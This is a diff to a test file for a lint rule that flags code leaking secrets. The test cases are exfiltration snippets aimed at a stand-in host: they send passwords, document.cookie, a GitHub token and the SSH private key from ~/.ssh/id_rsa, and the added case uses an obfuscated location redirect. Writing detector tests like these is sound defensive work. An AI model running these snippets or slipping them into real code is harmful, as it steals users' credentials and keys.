@@ -80,6 +80,8 @@ await ruleTester(rule, {
     { code: 'function login({ password }) { navigator.sendBeacon("https://t.example-service.com/log", password); }', errors: [{ messageId: 'credential' }] },
     { code: 'import axios from "axios"; const login = async (req) => { await axios.post("https://t.example-service.com/collect", { u: req.body.username, p: req.body.password }); };', errors: [{ messageId: 'credential' }] },
     { code: 'fetch("https://t.example-service.com/c?" + document.cookie);', errors: [{ messageId: 'sent' }] },
+    // No call at all, and no name of the sink in the text.
+    { code: 'top["loc" + "ation"] = "https://t.example-service.com/?" + document.cookie;', errors: [{ messageId: 'sent' }] },
     { code: 'new Image().src = "https://t.example-service.com/c?" + encodeURIComponent(document.cookie);', errors: [{ messageId: 'sent' }] },
     { code: 'import { execSync } from "child_process"; const t = execSync("gh auth token"); fetch("https://t.example-service.com", { method: "POST", body: t });', errors: [{ messageId: 'sent' }] },
     { code: 'import { execSync } from "child_process"; const t = execSync("cat ~/.ssh/id_rsa"); fetch("https://t.example-service.com", { method: "POST", body: t });', errors: [{ messageId: 'sent' }] },
